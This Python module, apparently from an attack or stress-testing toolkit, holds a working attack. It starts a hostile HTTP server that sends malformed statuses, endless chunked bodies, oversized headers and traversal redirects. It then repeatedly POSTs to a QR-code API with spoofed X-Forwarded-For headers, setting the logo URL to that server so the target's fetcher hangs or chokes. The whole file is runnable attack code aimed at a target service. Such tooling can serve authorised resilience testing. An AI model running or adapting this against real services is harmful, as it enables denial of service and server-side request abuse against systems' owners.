"""Answers of servers that Linden asks for a stranger."""

import itertools
import random
import socketserver
import threading
import time

from attacks.registry import attack, public
from attacks.sending import rounds
from traffic import request

OK = b"HTTP/1.1 200 OK\r\n"
CHUNKED = OK + b"Transfer-Encoding: chunked\r\n\r\n"
# What is sent first, and then again and again.
ANSWERS = [
    (b"HTTP/1.1 000 OK\r\nContent-Length: 2\r\n\r\nhi", b""), (b"HTTP/1.1 099 X\r\nContent-Length: 0\r\n\r\n", b""),
    (b"HTTP/1.1 001 X\r\n\r\n", b""), (b"HTTP/1.1 1000 X\r\n\r\n", b""), (b"HTTP/1.1 101 S\r\nUpgrade: h2c\r\n\r\n", b"\0\xff" * 30_000),
    (b"", b"HTTP/1.1 103 E\r\n\r\n" * 3000), (CHUNKED + b"1;", b"a" * 60_000), (CHUNKED, b"1\r\na\r\n" * 5000),
    (CHUNKED + b"0\r\n", b"a:b\r\n" * 10_000), (b"HTTP/1.1 200 ", b"a" * 60_000), (b"", b"\r\n" * 30_000),
    (OK + b"Content-Length: 18446744073709551615\r\n\r\n", b"a" * 60_000), (OK + b"Content-Length: -5\r\n\r\n", b""),
    (OK + b"X: " + b"\xff" * 200_000, b""), (random.Random(1).randbytes(60_000), b""),
    (b"HTTP/1.1 302 F\r\nLocation: /" + b"a/../" * 15_000 + b"\r\nContent-Length: 0\r\n\r\n", b""),
]


class HostileServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True
    request_queue_size = 100


class HostileAnswer(socketserver.BaseRequestHandler):
    """Answers a request for `/3` with the fourth answer, for seconds that are more than the patience of the client."""

    def handle(self):
        try:
            first, again = ANSWERS[int(self.request.recv(1 << 16).split(b" ")[1].strip(b"/"))]
            self.request.sendall(first)
            end = time.time() + 15
            while again and time.time() < end:
                self.request.sendall(again)
                # It is the reader that is attacked, and not its machine.
                time.sleep(0.02)
        except (OSError, LookupError, ValueError):
            pass


@public
@attack
def logos_of_hostile_servers(target, until, number):
    """QR codes with logos of a server that answers with impossible statuses, what is no HTTP, or heads and bodies that never end"""
    address = f"93.184.216.{34 + number}"
    numbers = itertools.count(number * len(ANSWERS) // 2)

    def code():
        index = next(numbers)
        settings = {"center_logo_url": f"http://{address}/{index % len(ANSWERS)}"}
        sender = {"X-Forwarded-For": f"198.31.{index % 200}.{100 + number}"}
        return [request("POST", "/v1/qr-code", {"branch_key": target.key, "data": {}, "qr_code_settings": settings}, sender)]

    with HostileServer((address, 80), HostileAnswer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            # Not all at once, of which the server would refuse most.
            return rounds(target, until, lambda: [code() for _ in range(4)], pause=1)
        finally:
            server.shutdown()
